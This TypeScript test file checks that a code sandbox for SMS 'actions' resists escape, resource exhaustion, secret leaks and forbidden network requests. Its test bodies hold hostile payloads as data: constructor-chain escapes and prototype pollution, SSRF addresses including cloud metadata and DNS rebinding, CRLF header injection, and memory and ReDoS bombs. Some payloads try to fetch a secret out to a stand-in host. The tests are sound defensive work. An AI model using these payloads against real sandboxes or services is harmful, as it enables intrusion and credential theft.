import { describe, expect, it, onTestFinished, vi } from 'vitest';
import { createActionCache, type KeptCache } from '../../src/core/actions/action-cache';
import type { LookUpAll } from '../../src/core/actions/action-fetch';
import { type ActionRun, runAction } from '../../src/core/actions/run-action';
import { defaultLimits } from '../../src/core/actions/sandbox/protocol';
import { startSandboxIn } from '../../src/node/start-sandbox';
import { actionHandlers, type ActionReport } from '../../src/shared/model/action';
import { startStandIn } from '../stand-ins/server';
import { leaksIn } from '../support/leaks';
import { builtSandboxWorker } from '../support/sandbox-worker';

// A run has a thread of its own to wait for.
vi.setConfig({ testTimeout: 60_000 });
const startSandbox = startSandboxIn(await builtSandboxWorker());
const secrets = { API_KEY: 'made-up-key-0a1b2c3d4e' };
const event = { notification: { message_type: 'otp_verify', delivery_method: 'text', recipient: '+14155550132', as_text: 'Your code is 482913', code: '482913' }, user: { user_metadata: { nested: { value: 1 } } } };
const nowhere = { hosts: [], loopbackHttp: false, privateAddresses: false };

/** Nothing here asks the network for a name. */
const refusing: LookUpAll = (_host, _options, done) => {
  done(Object.assign(new Error('asked for a name'), { code: 'EASKED' }), []);
};

/** A run in a thread of its own, as in the app, with less time to compute. `before`: outside of the handler. */
function attempt(body: string, over: Partial<ActionRun> = {}, { before = '', cpuMs = 400, wallMs = 30_000, lookUp = refusing, cache }: { before?: string; cpuMs?: number; wallMs?: number; lookUp?: LookUpAll; cache?: KeptCache } = {}): Promise<ActionReport> {
  const code = `${before}\nexports.${actionHandlers.sms} = async (event, api) => {${body}\n};`;
  return runAction(
    { code, handler: actionHandlers.sms, event, secrets, allowed: nowhere, answers: [], ...over },
    { startSandbox, clock: Date, signal: new AbortController().signal, limits: { ...defaultLimits, cpuMs, wallMs }, lookUp, cache },
  );
}
const printed = ({ action }: ActionReport) => action.console.map(({ text }) => text).join('\n');
/** A sentence that says what happened and the next step. */
const expectExplained = ({ outcome, error }: ActionReport) => {
  expect(outcome).toMatch(/failed|unknown/);
  for (const text of [error?.meaning, error?.fix]) expect(text).toMatch(/^[A-Z].+ .+\.$/);
  expect(error?.message).toMatch(/\S/);
};

/** Where the host's own objects would be found, if one of them were within reach. */
const searchForHost = `
  const reached = [];
  const look = (name, find) => { try { const found = find(); if (found !== undefined && found !== null) reached.push(name); } catch {} };
  for (const [label, start] of Object.entries({ event, api, fetch, console, setTimeout, Buffer, crypto, URL, Headers, process, require, api_cache: api.cache, stack: new Error('x') })) {
    look(label + ': process', () => start.constructor.constructor('return process.binding || process.mainModule || process.pid')());
    look(label + ': require', () => start.constructor.constructor('return typeof require === "function" && require("fs")')() || undefined);
    look(label + ': global', () => start.constructor.constructor('return globalThis.WebAssembly || globalThis.Deno || globalThis.postMessage || globalThis.parentPort || globalThis.Worker')());
    look(label + ': import', () => start.constructor.constructor('return globalThis.module && globalThis.module.constructor._load')());
  }
  console.log(JSON.stringify(reached));`;

describe('code of an action cannot reach the host', () => {
  it('by a chain of constructors from anything it is given', async () => {
    expect(printed(await attempt(searchForHost))).toBe('[]');
  });

  it('by functions that make functions', async () => {
    const report = await attempt(`
      const makers = [Function, (async () => {}).constructor, (function* () {}).constructor, (async function* () {}).constructor];
      for (const Maker of makers) { const made = new Maker('return typeof module + typeof process.pid + typeof postMessage'); const result = made(); console.log(typeof result === 'string' ? result : 'later'); }
      console.log((0, eval)('typeof process.exit + typeof globalThis.gc'));`);
    expect(printed(report)).toBe('undefinedundefinedundefined\nlater\nlater\nlater\nundefinedundefined');
  });

  it('by importing a module', async () => {
    const report = await attempt('for (const name of ["fs", "node:child_process", "./action.js", "/etc/passwd", "dispatchbox:kit"]) { try { await import(name); console.log("in"); } catch (error) { console.log("out"); } }');
    expect(printed(report)).toBe(Array(5).fill('out').join('\n'));
  });

  it.each(['fs', 'child_process', 'worker_threads', 'node:net', 'vm', 'constructor', '__proto__', 'toString', '../fs', 'axios/lib/adapters/http.js'])('by requiring %s', async (name) => {
    expect(printed(await attempt(`try { require(${JSON.stringify(name)}); console.log('in') } catch (error) { console.log(error.code) }`))).toBe('MODULE_NOT_FOUND');
  });

  it('by polluting the prototypes of what crosses', async () => {
    const report = await attempt(`
      for (const proto of [Object.prototype, Array.prototype, String.prototype, Promise.prototype, Headers.prototype, Buffer.prototype]) { proto.polluted = 'yes'; proto.status = 200; }
      event.__proto__.isAdmin = true; event['constructor'].prototype.other = 1;
      Object.prototype.toJSON = undefined;
      await fetch('https://sms.example/', { method: 'POST', body: JSON.stringify(JSON.parse('{"__proto__":{"polluted":"json"}}')) });`);
    expect(report.action.exchanges).toHaveLength(1);
    for (const value of [{}, [], '', Promise.resolve(), report, report.action] as object[]) expect((value as Record<string, unknown>).polluted).toBeUndefined();
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
  });

  it('by getters and proxies on what it hands over', async () => {
    const report = await attempt(`
      const trap = new Proxy({}, { get: (_t, name) => { if (name === Symbol.toPrimitive || name === 'toString') return () => 'https://sms.example/' + String(name).length; return trap; }, has: () => true, ownKeys: () => ['a', '__proto__'], getOwnPropertyDescriptor: () => ({ value: trap, enumerable: true, configurable: true }) });
      for (const work of [() => fetch(trap, trap), () => console.log(trap), () => api.notification.drop(trap), () => api.cache.set(trap, trap), () => new Headers(trap), () => Buffer.from(trap), () => structuredClone(trap), () => setTimeout(trap, trap)]) { try { await work() } catch {} }
      console.log({ get secret() { return event.secrets.API_KEY } }, [Object.defineProperty({}, 'x', { get() { for (;;); }, enumerable: true })]);`);
    expect(['action-error', 'action-dropped', 'timeout']).toContain(report.error?.kind);
    expectExplained(report);
    expect(leaksIn([report], Object.values(secrets))).toEqual([]);
  });

  it('by thenables, which run only inside', async () => {
    const report = await attempt(`
      const thenable = { then(resolve) { console.log(typeof process.pid, typeof WebAssembly); resolve('done'); } };
      console.log(await thenable);
      Promise.prototype.then = new Proxy(Promise.prototype.then, { apply: (target, self, values) => Reflect.apply(target, self, values) });
      return { then(resolve, reject) { reject(new Error('left by the back door')); } };`);
    expect(printed(report)).toContain('undefined undefined\ndone');
    expect(report).toMatchObject({ action: { end: 'threw' }, error: { message: 'Error: left by the back door' } });
  });

  it('by calling back into itself while the host is asked', async () => {
    const report = await attempt(`
      let depth = 0;
      const again = { toString() { depth += 1; if (depth < 50) new URL('https://sms.example/?' + again); return 'end'; } };
      new URL('https://sms.example/?' + again); api.notification.retry(again); console.log('depth', depth);
      Object.prototype.toJSON = function () { if (depth < 100) { depth += 1; console.log('again') } return this; };
      await fetch('https://sms.example/');`);
    expect(printed(report)).toContain('depth 51');
    expect(report.action.end).toBe('retry');
  });

  it('by writing to its event, or reading what another run left', async () => {
    const before = structuredClone(event);
    await attempt('event.notification.recipient = "+1999"; event.user.user_metadata.nested.value = 2; globalThis.left = event.secrets; Object.prototype.left = 1; require("axios").left = 1; Buffer.left = 1; api.cache.set("left", "1")', { answers: [] });
    expect(event).toEqual(before);
    const report = await attempt('console.log(typeof globalThis.left, typeof ({}).left, typeof require("axios").left, typeof Buffer.left, typeof api.cache.get("left"), event.notification.recipient, event.user.user_metadata.nested.value)');
    expect(printed(report)).toBe('undefined undefined undefined undefined undefined +14155550132 1');
  });

  it('by reading what another run left, but for what its own integration keeps in api.cache', async () => {
    const cache = createActionCache({ clock: Date });
    const one = { id: 'one', revision: 0 };
    const look = 'console.log(JSON.stringify(api.cache.get("left")?.value ?? null))';
    const leave = 'api.cache.set("left", "of one"); globalThis.left = 1;';
    await attempt(leave, {}, { cache: cache.of(one) });
    const looks = await Promise.all([one, { id: 'two', revision: 0 }].map((integration) => attempt(look, {}, { cache: cache.of(integration) })));
    expect(looks.map(printed)).toEqual(['"of one"', 'null']);
  });

  it('by filling what is kept between runs beyond its bounds, even past the runtime’s own check', async () => {
    const cache = createActionCache({ clock: Date });
    const one = { id: 'one', revision: 0 };
    const forge = `const records = Array.from({ length: 30 }, (_, n) => ({ key: "k" + n, value: "x".repeat(5000), expires_at: 9e15 }));
      const real = JSON.stringify; JSON.stringify = (value) => real(value && value.cache ? { ...value, cache: records } : value);
      Map.prototype[Symbol.iterator] = function* () { for (const { key, ...record } of records) yield [key, record]; };`;
    await attempt(forge, {}, { cache: cache.of(one) });
    expect(cache.of(one).records.reduce((sum, { value }) => sum + value.length, 0)).toBeLessThanOrEqual(8_192);
  });

  it('by keeping more in api.cache than Auth0 lets it', async () => {
    const report = await attempt(`
      const codes = []; const set = (key, value, options) => { const { type, code } = api.cache.set(key, value, options); codes.push(code ?? type); };
      set('k'.repeat(65), '1'); set('a', 'x'.repeat(4097)); set('a', '1', { ttl: NaN }); set('a', '1', { ttl: -1 }); set('a', '1', { ttl: 1e12 });
      console.log(codes.join(), api.cache.get('a').expires_at - Date.now() <= 86_400_000, api.cache.delete('b').code);
      codes.length = 0; for (let i = 0; i < 30; i += 1) set('k' + i, '1'); console.log([...new Set(codes)].join(), codes.indexOf('MaxSideEffectsExceeded'));`);
    expect(printed(report)).toBe('CacheKeySizeExceeded,CacheValueSizeExceeded,InvalidExpiry,ItemAlreadyExpired,success true CacheKeyDoesNotExist\nsuccess,MaxSideEffectsExceeded 15');
    expect(printed(await attempt('const codes = []; for (let i = 0; i < 3; i += 1) codes.push(api.cache.set("k" + i, "x".repeat(4000)).code); console.log(codes.join())'))).toBe(',,CacheSizeExceeded');
  });

  it('by code that closes the function it is put into', async () => {
    for (const before of ['}); globalThis.out = 1; (function () {', '})(), (() => {', '/* never closed', '`never closed', '}', 'return exports;']) {
      const report = await attempt('console.log(typeof process.pid)', {}, { before });
      expect(printed(report)).not.toContain('number');
      if (report.error !== null) expectExplained(report);
    }
  });
});

describe('code of an action ends in time', () => {
  it.each([
    ['a loop without an end', 'for (;;);', 'cpu'],
    ['a loop that catches everything', 'for (;;) { try { for (;;); } catch {} finally { for (;;); } }', 'cpu'],
    ['microtasks without an end', 'for (;;) await null;', 'cpu'],
    ['microtasks that breed', 'const breed = () => { queueMicrotask(breed); queueMicrotask(breed); }; breed(); await new Promise(() => {});', /cpu|memory/],
    ['a bomb of a regular expression', '/^(a+)+$/.test("a".repeat(40) + "b")', 'cpu'],
    ['a sort that never agrees', 'for (;;) Array.from({ length: 1000 }, Math.random).sort(() => Math.random() - 0.5)', 'cpu'],
    ['a getter without an end on the result', 'module.exports = new Proxy({}, { get() { for (;;); } }); JSON.stringify({ toJSON() { for (;;); } })', 'cpu'],
    ['a search that the interpreter does not interrupt', 'Array.prototype.indexOf.call({ length: 2 ** 53 - 1 }, 1)', /cpu|wall/],
    ['a bomb of memory', 'const all = []; for (;;) all.push(new Array(1000).fill(1));', 'memory'],
    ['a bomb of typed arrays', 'const all = []; for (;;) all.push(new Uint8Array(1e6));', 'memory'],
    ['a bomb of strings', 'let s = "a"; for (;;) s += s;', 'memory'],
    ['one huge string', '"x".repeat(2 ** 30 - 25)', 'memory'],
    ['a bomb of closures', 'let f = () => 1; for (;;) { const g = f; f = () => g; }', /memory|cpu/],
    ['recursion without an end', 'const f = () => f() + 1; f();', 'threw'],
    ['recursion through JSON', 'let o = {}; for (let i = 0; i < 1e5; i += 1) o = { o }; JSON.stringify(o)', /threw|memory|cpu/],
    ['recursion through the host', 'const o = { get x() { console.log(o); return o.x; } }; console.log(o); const f = () => { new URL("https://a.example"); f(); }; f();', /threw|memory|cpu/],
    ['a nested text', 'JSON.parse("[".repeat(1e6))', /threw|memory/],
    ['a promise that nothing settles', 'await new Promise(() => {})', 'stuck'],
    ['a timer beyond the clock', 'await new Promise((done) => setTimeout(done, 1e9))', 'wall'],
    ['a timer that repeats', 'await new Promise(() => setInterval(() => {}, 1))', /wall|cpu/],
    ['more timers than are kept', 'for (;;) setTimeout(() => {}, 1e6)', 'threw'],
    ['an error that cannot be read', 'throw new Proxy({}, { get() { throw 1 } })', 'threw'],
    ['an error that is nothing', 'throw undefined', 'threw'],
  ])('%s', async (_what, body, end) => {
    // On a busy machine little is computed in much time: only what waits is ended by the clock.
    const report = await attempt(body, {}, String(end).includes('wall') ? { wallMs: 2_500 } : {});
    if (typeof end === 'string') expect(report.action.end).toBe(end);
    else expect(report.action.end).toMatch(end);
    expectExplained(report);
  });

  it('at the top of the file as well', async () => {
    expect((await attempt('', {}, { before: 'for (;;);' })).action.end).toBe('cpu');
  });

  it('when it is stopped from outside, at any time', async () => {
    const person = new AbortController();
    const running = runAction(
      { code: `exports.${actionHandlers.sms} = async () => { for (;;); }`, handler: actionHandlers.sms, event, secrets, allowed: nowhere, answers: [] },
      { startSandbox, clock: Date, signal: person.signal, limits: { cpuMs: 60_000, wallMs: 60_000 } },
    );
    setTimeout(() => {
      person.abort();
    }, 50);
    expect((await running).action.end).toBe('cancelled');
  });

  it('and floods neither console nor network', async () => {
    const report = await attempt('const line = "x".repeat(9000); const waiting = []; for (let i = 0; i < 2000; i += 1) { console.log(line); waiting.push(fetch("https://sms.example/" + i).catch((error) => error.cause.code)); } const all = await Promise.all(waiting); api.notification.drop(all.filter((each) => each === "ETOOMANY").length)', {}, { cpuMs: 2_000, wallMs: 10_000 });
    expect(report.action.exchanges).toHaveLength(20);
    expect(report.error?.message).toBe('1980');
    expect(report.action.console.length).toBeLessThan(20);
    expect(report.action.console.at(-1)?.text).toBe('Further lines are left out.');
    const many = await attempt('for (let i = 0; i < 2000; i += 1) console.log(i);', {}, { cpuMs: 2_000, wallMs: 10_000 });
    expect([many.action.console.length, many.action.console[499]?.text, many.action.console.at(-1)?.text]).toEqual([501, '499', 'Further lines are left out.']);
  });
});

describe('secrets of an action', () => {
  const hidden = async (body: string, over: Partial<ActionRun> = {}, tools: Parameters<typeof attempt>[2] = {}) => {
    const report = await attempt(body, over, tools);
    expect(leaksIn([report], [...Object.values(secrets), ...Object.values(secrets).map((secret) => secret.toUpperCase())])).toEqual([]);
    return report;
  };
  const forged = (values: string) => `const key = event.secrets.API_KEY; Array.prototype.toJSON = function () { return ${values}; };`;

  it('stay hidden in the level and the line of a console line that was forged', async () => {
    const report = await hidden(`${forged('[key, "text", key]')} console.log('x');`);
    expect(report.action.console).toEqual([{ level: 'log', text: 'text' }]);
  });

  it('stay hidden in the names of exports that were forged', async () => {
    const report = await hidden('const key = event.secrets.API_KEY; Object.prototype.toJSON = function () { return "cache" in this && !("missing" in this) ? { decision: null, cache: [], missing: [key, "x".repeat(1e6)] } : this; };');
    expect(report.action.end).toBe('no-handler');
    expect(report.error?.meaning.length).toBeLessThan(2_000);
  });

  it('stay hidden in a host that is refused, also in capital letters', async () => {
    const over = { answers: null, secrets: { API_KEY: secrets.API_KEY.toUpperCase() } };
    const report = await hidden('await fetch("https://" + event.secrets.API_KEY + ".example/" + event.secrets.API_KEY).catch((error) => console.log(error.message)); await fetch("https://sms.example/", { method: event.secrets.API_KEY }).catch((error) => console.log(error.message)); throw new Error(new URL("https://" + event.secrets.API_KEY).host);', over);
    expect(report.action.exchanges[0]?.error).toMatch(/^The host •+\.example is not in the list/);
  });

  it('stay hidden in what it says last', async () => {
    await hidden('api.notification.retry("key " + event.secrets.API_KEY)');
    await hidden('const error = new Error("x"); error.name = event.secrets.API_KEY; error.stack = event.secrets.API_KEY; throw error');
    await hidden('exports[event.secrets.API_KEY] = 1; console.error({ [event.secrets.API_KEY]: [event.secrets.API_KEY] }, new Error(event.secrets.API_KEY))');
  });
});

describe('code of an action that breaks the language it runs in', () => {
  it.each([
    ['JSON', 'JSON.parse = () => ({ decision: null, cache: [] }); JSON.stringify = () => "not json";'],
    ['Promise', 'globalThis.Promise = null; Object.getPrototypeOf((async () => {})()).then = () => { throw 1 };'],
    ['Object.prototype', 'for (const name of ["then", "get", "set", "value", "error", "code", "kind", "ticket"]) Object.defineProperty(Object.prototype, name, { get() { throw new Error("broken") }, set() {}, configurable: true });'],
    ['Object', 'for (const name of Object.getOwnPropertyNames(Object)) { try { Object[name] = () => { throw 1 } } catch {} }'],
    ['Array.prototype', 'for (const name of Object.getOwnPropertyNames(Array.prototype)) { try { Array.prototype[name] = () => { throw 1 } } catch {} } Array.prototype[Symbol.iterator] = null;'],
    ['String and Map', 'for (const proto of [String.prototype, Map.prototype]) for (const name of Object.getOwnPropertyNames(proto)) { try { proto[name] = () => { throw 1 } } catch {} }'],
    ['every global', 'for (const name of Object.getOwnPropertyNames(globalThis)) { try { globalThis[name] = undefined } catch {} }'],
    ['Error.prepareStackTrace', 'Error.prepareStackTrace = () => { for (;;); }; Error.stackTraceLimit = 1e9; null.x;'],
  ])('%s', async (_what, body) => {
    const report = await attempt(`const ask = fetch; ${body} try { await ask("https://sms.example/") } catch {}`);
    expect(['returned', 'nothing-sent', 'threw', 'stuck', 'cpu']).toContain(report.action.end);
    if (report.action.end !== 'returned') expectExplained(report);
    expect(leaksIn([report], Object.values(secrets))).toEqual([]);
  });

  it('cannot claim to have sent what was not', async () => {
    const forged = JSON.stringify(JSON.stringify({ decision: null, cache: [] }));
    expect((await attempt(`JSON.stringify = () => ${forged};`)).action.end).toBe('nothing-sent');
  });
});

describe('code of an action asks only where it may', () => {
  const live = (url: string, allowed: Partial<ActionRun['allowed']> = {}, init = '', lookUp = refusing) =>
    attempt(`try { const answer = await fetch(${JSON.stringify(url)}${init}); console.log(answer.status, await answer.text()) } catch (error) { console.log(error.cause?.code ?? error.name) }`, { answers: null, allowed: { ...nowhere, ...allowed } }, { wallMs: 5_000, lookUp });

  it.each([
    'https://127.0.0.1/', 'https://2130706433/', 'https://017700000001/', 'https://0x7f000001/', 'https://0x7f.0.0.1/', 'https://127.1/', 'https://0/', 'https://[::1]/', 'https://[::]/',
    'https://[::ffff:127.0.0.1]/', 'https://[::ffff:7f00:1]/', 'https://[0:0:0:0:0:ffff:a9fe:a9fe]/', 'https://169.254.169.254/latest/meta-data/', 'https://[fd00:ec2::254]/', 'https://100.100.100.200/',
    'https://10.0.0.1/', 'https://192.168.0.1/', 'https://[64:ff9b::7f00:1]/', 'https://１２７.０.０.１/', 'https://127。0。0。1/', 'https://localhost/', 'https://a.localhost/',
  ])('not at an address of this computer or network, however it is spelled: %s', async (url) => { // prettier-ignore
    const report = await live(url, { hosts: [new URL(url).host] });
    expect(printed(report)).toBe('EADDRNOTALLOWED');
    expect(report.action.exchanges[0]?.error).toMatch(/^.+ is an address of|^.+ is a link-local/);
  });

  it.each([
    ['https://sms.example@evil.example/', 'EBADURL'],
    ['https://user:pass@sms.example/', 'EBADURL'],
    ['https://sms.example.evil.example/', 'EHOSTNOTALLOWED'],
    ['https://sms.example:444/', 'EHOSTNOTALLOWED'],
    ['https://evil.example/#sms.example', 'EHOSTNOTALLOWED'],
    ['https://evil.example\\.sms.example/', 'EHOSTNOTALLOWED'],
    ['http://sms.example/', 'EBADURL'],
    ['file:///etc/passwd', 'EBADURL'],
    ['data:text/plain,hi', 'EBADURL'],
    ['blob:https://sms.example/x', 'EBADURL'],
    ['not an address', 'TypeError'],
  ])('not elsewhere than its list says: %s', async (url, code) => {
    expect(printed(await live(url, { hosts: ['sms.example'] }))).toBe(code);
  });

  it('not where a public name leads to a private address, nor at the second look', async () => {
    let looks = 0;
    const rebinding: LookUpAll = (_host, _options, done) => {
      looks += 1;
      done(null, [{ address: looks === 1 ? '10.0.0.7' : '169.254.169.254', family: 4 }]);
    };
    for (let look = 0; look < 2; look += 1) {
      const report = await live('https://rebind.example/', { hosts: ['rebind.example'] }, '', rebinding);
      expect(printed(report)).toBe('EADDRNOTALLOWED');
      expect(report.action.exchanges[0]?.error).toContain('rebind.example leads to an address');
    }
    expect(looks).toBe(2);
  });

  it('not where one of a name’s addresses is private', async () => {
    const mixed: LookUpAll = (_host, _options, done) => {
      done(null, [{ address: '8.8.8.8', family: 4 }, { address: '::ffff:127.0.0.1', family: 6 }]);
    };
    expect(printed(await live('https://mixed.example/', { hosts: ['mixed.example'] }, '', mixed))).toBe('EADDRNOTALLOWED');
  });

  it('not where a redirect leads', async () => {
    const standIn = await startStandIn(({ path, query }) => (path === '/go' ? { status: 307, headers: { location: query.get('to') ?? '' }, body: '' } : { status: 200, body: 'arrived' }));
    onTestFinished(() => standIn.close());
    const allowed = { hosts: [new URL(standIn.url).host], loopbackHttp: true };
    for (const to of ['https://169.254.169.254/', 'http://127.0.0.2:1/', 'file:///etc/passwd', '//evil.example/', 'https://evil.example/', 'http://[']) {
      expect(printed(await live(`${standIn.url}/go?to=${encodeURIComponent(to)}`, allowed, ', { headers: { authorization: event.secrets.API_KEY } }'))).toBe('EREDIRECT');
    }
    expect(printed(await live(`${standIn.url}/go?to=${encodeURIComponent('/there')}`, allowed))).toBe('200 arrived');
  });

  it('with no line break in a header or a method, even past the runtime’s own check', async () => {
    const standIn = await startStandIn(() => ({ status: 200, body: 'ok' }));
    onTestFinished(() => standIn.close());
    const report = await attempt(
      `const url = ${JSON.stringify(standIn.url)} + '/';
      const said = async (work) => { try { await work(); return 'sent' } catch (error) { return error.cause?.code ?? error.name } };
      const smuggled = (headers) => { const request = new Request(url); request.headers = headers; return fetch(Object.assign(Object.create(Request.prototype), {}), {}).catch(() => fetch(request)); };
      console.log(await said(() => fetch(url, { headers: { 'x-a': 'b\\r\\nx-evil: 1' } })), await said(() => fetch(url, { headers: { 'x-a\\r\\nx-evil': '1' } })), await said(() => fetch(url, { method: 'GET /\\r\\nx-evil: 1' })), await said(() => fetch(url, { method: 'CONNECT' })), await said(() => fetch(url + '\\r\\nx-evil: 1')));
      Headers.prototype[Symbol.iterator] = function* () { yield ['x-a', 'b\\r\\nx-evil: 1']; };
      console.log(await said(() => fetch(url)));
      Object.fromEntries = () => ({ 'x-b\\r\\nx-evil': '1' });
      console.log(await said(() => fetch(url)));
      Object.fromEntries = () => ({ host: 'evil.example', 'transfer-encoding': 'chunked', 'content-length': '3', connection: 'upgrade', upgrade: 'h2c' });
      console.log(await said(() => fetch(url, { method: 'POST', body: 'whole' })));`,
      { answers: null, allowed: { hosts: [new URL(standIn.url).host], loopbackHttp: true, privateAddresses: false } },
      { cpuMs: 2_000, wallMs: 10_000 },
    );
    expect(printed(report)).toBe('TypeError TypeError EBADMETHOD EBADMETHOD sent\nEBADHEADER\nEBADHEADER\nsent');
    for (const { headers } of standIn.requests) expect(headers['x-evil']).toBeUndefined();
    expect(standIn.requests.at(-1)).toMatchObject({ body: 'whole', headers: { host: new URL(standIn.url).host } });
  });

  it('and reads no more of an answer than it may, nor sends more', async () => {
    const standIn = await startStandIn(() => ({ status: 200, body: 'x'.repeat(1_048_577) }));
    onTestFinished(() => standIn.close());
    const report = await attempt(
      `const url = ${JSON.stringify(`${standIn.url}/`)}; const said = (ask) => ask().then((answer) => answer.text()).then(() => 'got it', (error) => error.message);
      console.log(await said(() => fetch(url)));
      console.log(await said(() => fetch(url, { method: 'POST', body: 'x'.repeat(1_048_577) })));
      console.log(await said(() => fetch(url, { headers: Object.fromEntries(Array.from({ length: 100 }, (_, n) => ['x-' + n, 'v'.repeat(1_000)])) })));
      console.log(await said(() => fetch(url, { headers: { 'x-a': 'v'.repeat(20_000) } })), await said(() => fetch(url + 'p'.repeat(9_000))));`,
      { answers: null, allowed: { hosts: [new URL(standIn.url).host], loopbackHttp: true, privateAddresses: false } },
      { cpuMs: 5_000, wallMs: 20_000 },
    );
    expect(printed(report).split('\n')).toEqual([
      'fetch failed: The answer is larger than 1 MB.',
      'fetch failed: The body of the request is larger than 1 MB.',
      'fetch failed: The headers of the request are larger than 64 kB.',
      'fetch failed: The request is too large, or no request. fetch failed: The request is too large, or no request.',
    ]);
    expect(standIn.requests).toHaveLength(1);
  });

  it('and follows five redirects at most, each of them counted as a request', async () => {
    const standIn = await startStandIn(() => ({ status: 302, headers: { location: '/again' }, body: '' }));
    onTestFinished(() => standIn.close());
    const report = await attempt(`const turn = () => fetch(${JSON.stringify(`${standIn.url}/`)}).catch((error) => error.message); console.log(await turn()); for (let i = 0; i < 4; i += 1) console.log(await turn());`, { answers: null, allowed: { hosts: [new URL(standIn.url).host], loopbackHttp: true, privateAddresses: false } }, { cpuMs: 2_000, wallMs: 20_000 });
    expect(printed(report).split('\n')).toEqual([...Array<string>(3).fill('fetch failed: Too many redirects.'), ...Array<string>(2).fill('fetch failed: More than 20 requests in one run.')]);
    expect(standIn.requests).toHaveLength(20);
  });

  it('and never in a dry run', async () => {
    // Looking the name up would fail the request.
    const report = await attempt('await fetch("https://sms.example/", { method: "POST", body: event.notification.as_text })');
    expect(report.action.exchanges[0]).toMatchObject({ dry: true, response: { status: 200 } });
  });
});
